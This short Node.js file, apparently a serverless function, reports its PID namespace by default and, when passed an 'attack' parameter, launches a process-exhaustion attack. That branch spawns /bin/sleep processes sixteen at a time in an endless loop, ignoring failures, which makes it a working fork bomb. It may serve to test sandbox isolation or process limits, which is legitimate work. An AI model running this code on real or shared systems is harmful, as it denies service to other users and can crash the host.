// Starts child processes as fast as it can, forever, ignoring every failure to start one.
const fs = require('fs');
const { spawn } = require('child_process');

function main(params) {
  if (!params.attack) return { pidns: fs.readlinkSync('/proc/self/ns/pid') };
  return new Promise(() => {
    const more = () => {
      for (let i = 0; i < 16; i++) {
        spawn('/bin/sleep', ['600'], { stdio: 'ignore' }).on('error', () => {});
      }
      setImmediate(more);
    };
    more();
  });
}
